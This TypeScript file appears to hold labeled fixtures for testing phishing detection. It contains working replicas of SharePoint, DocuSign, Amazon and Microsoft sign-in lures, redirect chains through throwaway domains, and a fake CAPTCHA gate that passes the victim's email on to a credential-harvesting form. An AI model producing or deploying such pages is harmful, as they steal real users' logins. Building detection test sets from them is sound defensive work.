import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, imgRoute, metaHop, scriptHop, b64 } from '../parts/r-kit.js';

const genericKit = (host: string, path: string, brand: string, lang = 'en') => htmlRoute(doc({ lang, title: `${brand} - Sign in` , css: `body{font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3}.b{width:400px;margin:80px auto;background:#fff;padding:34px;box-shadow:0 1px 5px rgba(0,0,0,.2)}input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa}button{width:100%;padding:10px;background:#0067b8;color:#fff;border:0}` },
`<div class="b"><h2>${brand}</h2><p>Sign in with your work or school account to access the shared file.</p><form method="post" action="https://${host}${path}post.php"><input type="email" name="login" placeholder="Email" required><input type="password" name="passwd" placeholder="Password" required><button>Sign in</button></form></div>`));

export const entries: Entry[] = [
{
  id: 'r-lure-sharepoint-shared-folder',
  label: 'phishing',
  kind: 'doc-lure',
  url: 'https://northfield-accounting.sharepoint-filedrop.com/sites/Finance/Shared%20Documents/',
  body: doc({ title: 'SharePoint', css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}.sb{background:#036c70;height:48px;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600}
.card{max-width:520px;margin:60px auto;background:#fff;padding:32px;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13)}.av{width:48px;height:48px;border-radius:50%;background:#8764b8;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:600}
.f{display:flex;gap:12px;align-items:center;border:1px solid #edebe9;padding:12px;margin:18px 0}.ic{width:32px;height:40px;background:#185abd;color:#fff;font-size:11px;display:flex;align-items:center;justify-content:center}
a.bt{display:inline-block;background:#0078d4;color:#fff;padding:9px 22px;text-decoration:none;border-radius:2px}` },
`<div class="sb">⋮⋮⋮ &nbsp; SharePoint</div>
<div class="card"><div style="display:flex;gap:12px;align-items:center"><div class="av">KD</div><div><b>Karen Doyle</b> shared a folder with you<br><small style="color:#605e5c">Northfield Accounting LLP</small></div></div>
<p>"Hi, please find the Q4 payment documents and updated remittance details. Let me know once reviewed."</p>
<div class="f"><div class="ic">DOCX</div><div><b>Q4_Remittance_Advice.docx</b><br><small>Modified 2 hours ago · 3 files</small></div></div>
<a class="bt" href="https://auth-office-docs.hostingsecure-eu.com/sp/login/?folder=Q4">Open</a>
<p style="font-size:11px;color:#a19f9d;margin-top:30px">This link will work for anyone in your organisation. Microsoft respects your privacy. To learn more, please read our Privacy Statement.</p></div>`),
  routes: { 'auth-office-docs.hostingsecure-eu.com/sp/login/': genericKit('auth-office-docs.hostingsecure-eu.com', '/sp/login/', 'Microsoft') },
},
{
  id: 'r-lure-docusign-review-link',
  label: 'phishing',
  kind: 'doc-lure',
  url: 'https://docusign-envelope.secure-review.app/Signing/EmailStart.aspx?a=4f1d9e20-77c4',
  body: doc({ title: 'DocuSign', css: `body{margin:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif}.e{max-width:560px;margin:40px auto;background:#fff}.hd{background:#1e1e1e;color:#fff;padding:18px;font-weight:700}.hd span{color:#ffcc22}
.bl{background:#214e9f;color:#fff;text-align:center;padding:30px}.bl a{display:inline-block;background:#ffc820;color:#333;font-weight:bold;padding:12px 26px;text-decoration:none;margin-top:14px;border-radius:2px}.bd{padding:24px;font-size:15px}` },
`<div class="e"><div class="hd">Docu<span>Sign</span></div>
<div class="bl"><p>📄 Rebecca Tan sent you a document to review and sign.</p><a href="/Signing/review/index.html">REVIEW DOCUMENT</a></div>
<div class="bd"><p><b>Rebecca Tan</b><br>rtan@meridian-legal.co</p><p>Please review and complete: <b>Settlement_Agreement_Final.pdf</b></p><p style="font-size:12px;color:#888">Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br>Alternate Signing Method: Visit DocuSign.com, click 'Access Documents', and enter the security code: 3B9E2F5A1D</p></div></div>`),
  routes: {
    'docusign-envelope.secure-review.app/Signing/review/index.html': htmlRoute(doc({ title: 'DocuSign – Verify email' }, `<div style="max-width:420px;margin:60px auto;font-family:Arial;padding:24px;border:1px solid #ccc"><h3>Verify your email to access the document</h3><form method="post" action="/Signing/review/verify.php"><select name="prov"><option>Office 365</option><option>Outlook</option><option>Gmail</option><option>AOL</option><option>Other</option></select><input name="email" type="email" placeholder="Email" style="display:block;width:100%;margin:8px 0;padding:8px"><input name="password" type="password" placeholder="Password" style="display:block;width:100%;padding:8px"><button style="margin-top:10px">Continue</button></form></div>`)),
  },
},
{
  id: 'r-redir-meta-then-script-hops',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://bestdeal-coupons.shop/go/amz-giftcard',
  routes: {
    'bestdeal-coupons.shop/go/amz-giftcard': metaHop('https://cdn-traffic-split.icu/t/9923?s=amz', 0, 'Redirecting'),
    'cdn-traffic-split.icu/t/9923': scriptHop('https://verify-prime-membership.com/ap/signin?openid=prime', 'Please wait…'),
    'verify-prime-membership.com/ap/signin': htmlRoute(doc({ title: 'Amazon Sign-In', css: `body{font-family:Arial,sans-serif}.b{width:350px;margin:30px auto;border:1px solid #ddd;border-radius:8px;padding:20px}input{width:100%;padding:7px;margin:4px 0 10px}button{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}` },
      `<h1 style="text-align:center;font-family:Arial">amazon</h1><div class="b"><h2 style="font-weight:400">Sign in</h2><p style="font-size:13px;color:#c40000">Your Prime membership could not be renewed. Sign in to update your payment method and claim your $100 loyalty gift card.</p><form method="post" action="/ap/signin/post"><label>Email or mobile phone number</label><input name="email"><label>Password</label><input type="password" name="password"><button>Sign in</button></form></div>`)),
  },
},
{
  id: 'r-redir-captcha-gate-to-kit',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://secure-doc-gateway.online/gate/?t=ZmluYW5jZUBicmlnaHR3b29kLmlv',
  body: doc({ title: 'Human verification', css: `body{font-family:Arial,sans-serif;background:#f9f9f9;display:flex;justify-content:center;padding-top:15vh}.cb{border:1px solid #d3d3d3;background:#fff;padding:14px 18px;display:flex;align-items:center;gap:14px;width:300px;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.08)}
.cb i{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer;display:inline-block}` },
`<div><p>Please confirm you are not a robot to continue to your document.</p><div class="cb"><i id="cb"></i><span>I'm not a robot</span><small style="margin-left:auto;color:#999;font-size:9px">reCAPTCHA<br>Privacy - Terms</small></div></div>
<script>
var t=new URLSearchParams(location.search).get('t')||'';
document.getElementById('cb').onclick=function(){this.style.background='#4caf50';setTimeout(function(){location.replace('https://doc-viewer-office.buzz/auth/index.html#'+t);},700);};
setTimeout(function(){location.replace('https://doc-viewer-office.buzz/auth/index.html#'+t);},6000);
</script>`),
  routes: { 'doc-viewer-office.buzz/auth/index.html': genericKit('doc-viewer-office.buzz', '/auth/', 'Microsoft 365') },
},
];
